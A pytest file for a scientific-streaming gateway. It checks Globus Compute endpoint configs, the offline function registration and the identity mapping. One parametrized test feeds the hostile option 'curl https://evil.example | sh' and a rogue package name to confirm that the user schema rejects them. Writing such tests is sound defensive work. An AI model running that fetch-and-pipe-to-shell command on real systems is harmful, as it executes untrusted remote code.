"""The shipped endpoint configs, loaded by globus-compute-endpoint's own config loader,
and the operator's commands that fill them in (register offline through the SDK's
HTTP seam, render-config)."""

from __future__ import annotations

import json
import pwd
import shutil
import uuid
from pathlib import Path

import jsonschema
import pytest
import responses
from globus_compute_endpoint.endpoint.config import CoreEndpointConfig, UserEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import (
    load_config_yaml,
    load_user_config_schema,
    load_user_config_template,
    render_config_user_template,
)
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity
from globus_compute_endpoint.engines import GlobusComputeEngine, ProcessPoolEngine

from scistream_gateway.cli import main, read_function_ids, render_config
from scistream_gateway.engine import ALLOWED_SERIALIZERS
from scistream_gateway.functions import ALL

CONFIGS = Path(__file__).resolve().parent.parent / "endpoint_configs"


def _ids() -> dict[str, str]:
    return {name: str(uuid.uuid4()) for name in ALL}


def _load(text: str):
    config = load_config_yaml(text)
    if getattr(config, "engine", None) is not None:
        config.engine.shutdown()
    return config


def test_shipped_single_user_config_loads_with_the_endpoint_loader():
    config = _load((CONFIGS / "single_user" / "config.yaml").read_text())
    assert isinstance(config, UserEndpointConfig)
    assert isinstance(config.engine, ProcessPoolEngine)
    assert len(config.allowed_functions) == len(ALL) == 9
    allowed = {f"{c.__module__}.{c.__name__}"
               for c in config.engine.serde.allowed_deserializer_types}
    assert allowed == {"globus_compute_sdk.serialize.concretes.DillCodeSource",
                       "globus_compute_sdk.serialize.concretes.JSONData"}
    assert config.idle_heartbeats_soft == 0


def test_render_config_fills_in_the_registered_uuids(tmp_path):
    ids = _ids()
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(ids))
    settings = tmp_path / "gateway.toml"
    out = tmp_path / "ep"
    assert main(["render-config", "--functions", str(functions), "--output-dir", str(out),
                 "--display-name", 'gw "P": x', "--settings", str(settings)]) == 0
    config = _load((out / "config.yaml").read_text())
    assert list(config.allowed_functions) == list(ids.values())
    assert config.display_name == 'gw "P": x'
    # Comments (the annotations) survive rendering.
    assert "# reserve" in (out / "config.yaml").read_text()
    dropin = (out / "scistream.conf").read_text()
    assert f"Environment=SCISTREAM_GATEWAY_CONFIG={settings.resolve()}" in dropin
    assert "Environment=SCISTREAM_PROXY_LAUNCH=systemd" in dropin


def test_render_config_refuses_an_incomplete_functions_file(tmp_path, capsys):
    ids = _ids()
    del ids["renew"]
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(ids))
    assert main(["render-config", "--functions", str(functions)]) == 2
    assert "missing functions ['renew']" in capsys.readouterr().err
    functions.write_text(json.dumps({**ids, "renew": "not-a-uuid"}))
    with pytest.raises(ValueError, match="renew is not a UUID"):
        read_function_ids(functions)


def _identity(user: str) -> MappedPosixIdentity:
    return MappedPosixIdentity(pwd.getpwnam(user), [], str(uuid.uuid4()))


def test_multi_user_configs_load_and_render_per_user(tmp_path):
    ids = _ids()
    mapping = tmp_path / "identity_mapping.json"
    shutil.copy(CONFIGS / "multi_user" / "identity_mapping.json", mapping)
    files = render_config(ids, multi_user=True, endpoint_dir=tmp_path,
                          identity_mapping=mapping, settings_dir=Path("/srv/scistream/users"))
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    assert "SCISTREAM_GATEWAY_CONFIG" not in files["scistream.conf"]  # set per user

    manager = _load(files["config.yaml"])
    assert isinstance(manager, CoreEndpointConfig)
    assert list(manager.allowed_functions) == list(ids.values())
    assert manager.user_config_template_path == tmp_path / "user_config_template.yaml.j2"
    assert manager.identity_mapping_config_path == mapping

    template = load_user_config_template(manager.user_config_template_path)
    schema = load_user_config_schema(manager.user_config_schema_path)
    rendered = {}
    for user in ("root", "nobody"):
        text = render_config_user_template(manager, template, manager.user_config_template_path,
                                           _identity(user), schema, {}, {})
        config = _load(text)
        assert isinstance(config, UserEndpointConfig)
        assert isinstance(config.engine, GlobusComputeEngine)
        assert list(config.allowed_functions) == list(ids.values())
        init = config.engine.executor.provider.worker_init
        assert f"export SCISTREAM_GATEWAY_CONFIG='/srv/scistream/users/{user}.toml'" in init
        rendered[user] = text
    assert rendered["root"] != rendered["nobody"]


@pytest.mark.parametrize("user_opts", [
    {"worker_init": "curl https://evil.example | sh"},
    {"endpoint_setup": "true"},
    {"requirements": "evil-package"},
])
def test_multi_user_schema_lets_callers_choose_nothing(tmp_path, user_opts):
    ids = _ids()
    files = render_config(ids, multi_user=True, endpoint_dir=tmp_path)
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    schema = load_user_config_schema(tmp_path / "user_config_schema.json")
    template = load_user_config_template(tmp_path / "user_config_template.yaml.j2")
    template_path = tmp_path / "user_config_template.yaml.j2"
    manager = CoreEndpointConfig(user_config_template_path=template_path)
    with pytest.raises(jsonschema.ValidationError):
        render_config_user_template(manager, template, template_path,
                                    _identity("nobody"), schema, user_opts, {})


def test_shipped_allow_list_is_what_the_engine_module_uses():
    text = (CONFIGS / "single_user" / "config.yaml").read_text()
    for path in ALLOWED_SERIALIZERS:
        assert f"- {path}" in text


# -- registration, offline through the SDK's HTTP seam ---------------------------------
COMPUTE = "https://compute.api.globus.org"
AUTH = "https://auth.globus.org"


@pytest.fixture
def compute_service(tmp_path, monkeypatch):
    """The Globus Auth and Compute web services as globus-sdk's testing seam (the
    `responses` transport) answers them: a confidential client's token, and one new
    function UUID per registration. Nothing reaches the network."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GLOBUS_COMPUTE_USER_DIR", str(tmp_path / "home" / ".globus_compute"))
    monkeypatch.setenv("GLOBUS_COMPUTE_CLIENT_ID", str(uuid.uuid4()))
    monkeypatch.setenv("GLOBUS_COMPUTE_CLIENT_SECRET", "test-secret-not-real")
    registered: list[dict] = []

    def register(request):
        body = json.loads(request.body)
        registered.append(body)
        return 200, {"Content-Type": "application/json"}, json.dumps(
            {"function_uuid": str(uuid.uuid4())})

    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.add(responses.POST, f"{AUTH}/v2/oauth2/token", json={
            "access_token": "compute-access-token", "expires_in": 172800,
            "token_type": "Bearer", "resource_server": "funcx_service",
            "scope": "https://auth.globus.org/scopes/facd7ccc-c5f4-42aa-916b-a0e270e2c2a9/all",
            "other_tokens": []})
        mock.add_callback(responses.POST, f"{COMPUTE}/v3/functions", callback=register)
        yield mock, registered


def test_register_writes_name_to_uuid_json(compute_service, tmp_path, capsys):
    mock, registered = compute_service
    out = tmp_path / "functions.json"
    assert main(["register", "--output", str(out)]) == 0
    ids = read_function_ids(out)
    assert list(ids) == list(ALL)
    assert len(set(ids.values())) == 9
    printed = capsys.readouterr().out
    assert all(f"{name:13} {fid}" in printed for name, fid in ids.items())
    # What went over the wire: each function by name, as source text (DillCodeSource),
    # with the confidential client's token.
    assert [r["function_name"] for r in registered] == list(ALL)
    assert all(r["meta"]["serde_identifier"] == "04" for r in registered)
    calls = [c for c in mock.calls if c.request.url.startswith(f"{COMPUTE}/v3/functions")]
    assert all(c.request.headers["Authorization"] == "Bearer compute-access-token"
               for c in calls)
    # The written file is what render-config takes.
    files = render_config(ids)
    assert list(_load(files["config.yaml"]).allowed_functions) == list(ids.values())


def test_register_reports_a_service_error(compute_service, tmp_path, capsys):
    mock, _ = compute_service
    mock.replace(responses.POST, f"{COMPUTE}/v3/functions", status=403,
                 json={"code": "FORBIDDEN", "message": "not allowed"})
    assert main(["register", "--output", str(tmp_path / "f.json")]) == 2
    assert "403" in capsys.readouterr().err
    assert not (tmp_path / "f.json").exists()


def test_shipped_identity_mapping_maps_only_its_own_domain():
    from globus_identity_mapping.loader import load_mappers

    text = (CONFIGS / "multi_user" / "identity_mapping.json").read_text()
    (mapper,) = load_mappers(json.loads(text), "auth.globus.org")
    assert mapper.map_identity({"id": "1", "username": "alice@example.org"}) == "alice"
    assert mapper.map_identity({"id": "2", "username": "alice@example.org.evil.net"}) is None
    assert mapper.map_identity({"id": "3", "username": "mallory@elsewhere.org"}) is None
